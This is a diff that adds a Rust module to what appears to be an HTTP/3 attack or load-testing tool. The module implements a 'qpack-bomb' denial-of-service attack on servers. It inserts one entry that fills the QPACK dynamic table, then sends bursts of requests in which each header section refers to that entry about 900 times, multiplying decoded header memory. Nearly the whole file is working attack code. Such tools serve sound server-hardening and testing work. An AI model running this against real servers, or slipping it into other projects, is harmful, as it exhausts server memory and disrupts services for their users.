@@ -1,0 +1,73 @@
+//! One large table entry, and a thousand references to it.
+
+use crate::attack::{Plan, Victim};
+use crate::http::{self, Method};
+
+use super::{Crowd, crowd};
+
+/// How the attack is listed.
+pub(super) const PLAN: Plan = Plan {
+    name: "qpack-bomb",
+    labels: &["A74"],
+    summary: "an entry that fills the dynamic table, referred to a thousand times by each request",
+    victim: Victim::Server,
+    make: || Box::new(qpack_bomb()),
+};
+
+fn qpack_bomb() -> Crowd {
+    Crowd::new(4, |connection, progress, _| {
+        for _ in 0..crowd::permitted(connection, progress, BURST) {
+            let id = http::request_stream(progress.streams);
+            progress.streams += 1;
+            let bytes = http::frame(http::HEADERS, &bomb());
+            for (index, chunk) in bytes.chunks(1000).enumerate() {
+                let offset = index as u64 * 1000;
+                connection.push_bytes(http::stream(id, offset, chunk, true));
+            }
+        }
+    })
+    .with_begin(|connection, progress| {
+        crowd::preface(connection, progress);
+        let inserts = inserts();
+        let id = http::uni_stream(http::ENCODER);
+        for (index, chunk) in inserts.chunks(1000).enumerate() {
+            let offset = progress.encoder + index as u64 * 1000;
+            connection.push_bytes(http::stream(id, offset, chunk, false));
+        }
+        progress.encoder += inserts.len() as u64;
+    })
+}
+
+/// Instructions that set the capacity and insert one entry (RFC 9204 §4.3.1, §4.3.3).
+fn inserts() -> Vec<u8> {
+    let mut bytes = Vec::new();
+    http::put_prefixed(&mut bytes, 0x20, 5, CAPACITY);
+    http::put_prefixed(&mut bytes, 0x40, 5, 1);
+    bytes.push(b'x');
+    http::put_prefixed(&mut bytes, 0, 7, VALUE);
+    bytes.resize(bytes.len() + VALUE, b'y');
+    bytes
+}
+
+/// A section that requires one insert and refers to it in every line.
+fn bomb() -> Vec<u8> {
+    let request = http::section(Method::Get, "/");
+    // Required Insert Count 1 is encoded as 2; the base is 1 (RFC 9204 §4.5.1).
+    let mut section = vec![0x02, 0x00];
+    section.extend_from_slice(&request[2..]);
+    // Indexed field lines with relative index 0 of the dynamic table.
+    section.resize(section.len() + REFERENCES, 0x80);
+    section
+}
+
+/// Requests of one connection in one turn.
+const BURST: u64 = 8;
+
+/// The capacity that the peer permits by default.
+const CAPACITY: usize = 4096;
+
+/// The entry fills the table with a name of one byte and the overhead of 32.
+const VALUE: usize = CAPACITY - 33;
+
+/// References of one request: four megabytes if they were all kept.
+const REFERENCES: usize = 900;
